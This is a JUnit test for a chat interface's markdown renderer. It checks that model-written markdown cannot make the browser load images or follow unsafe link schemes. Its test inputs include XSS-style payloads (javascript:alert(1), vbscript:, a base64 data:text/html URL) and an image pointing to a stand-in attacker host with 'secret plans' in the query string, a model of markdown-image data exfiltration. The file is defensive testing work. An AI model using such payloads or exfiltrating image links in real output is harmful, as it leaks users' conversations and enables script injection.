package dev.streamchat.ui.markdown;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** Model output cannot make the browser send anything anywhere by itself, nor link to other schemes. */
class MarkdownRendererTest {

    final MarkdownRenderer renderer = new MarkdownRenderer();

    @Test
    void onlyHttpHttpsAndMailtoStayLinks() {
        String html = renderer.toHtml("""
                [web](https://example.com/a) [plain](http://example.com) [mail](mailto:a@example.com)
                [data](data:text/html;base64,PHNjcmlwdD4=) [js](javascript:alert(1)) [rel](/actuator/metrics)
                [odd](HTTPS:example.com) [vb](vbscript:x) <data:text/html,hi>
                """);

        assertThat(html).contains("href=\"https://example.com/a\"", "href=\"http://example.com\"",
                "href=\"mailto:a@example.com\"");
        assertThat(html).doesNotContain("data:text/html;base64", "href=\"javascript", "href=\"/actuator",
                "href=\"HTTPS:example", "href=\"vbscript", "href=\"data:");
        assertThat(html).contains("data", "js", "rel", "odd").doesNotContain("href=\"\"");
    }

    @Test
    void imagesAreLinksTheUserMayClickNeverLoadedByThemselves() {
        String html = renderer.toHtml("Look: ![your chats](https://attacker.example/?q=secret%20plans) and "
                + "![](data:image/png;base64,AAAA) ![x](/logo.png)");

        assertThat(html).doesNotContain("<img");
        assertThat(html).contains("href=\"https://attacker.example/?q=secret%20plans\"")
                .contains("image: your chats</a>")
                .doesNotContain("data:image", "/logo.png");
    }

    @Test
    void autolinkedUrlsFollowTheSameRule() {
        assertThat(renderer.toHtml("see https://example.com and www.example.org"))
                .contains("href=\"https://example.com\"");
    }
}
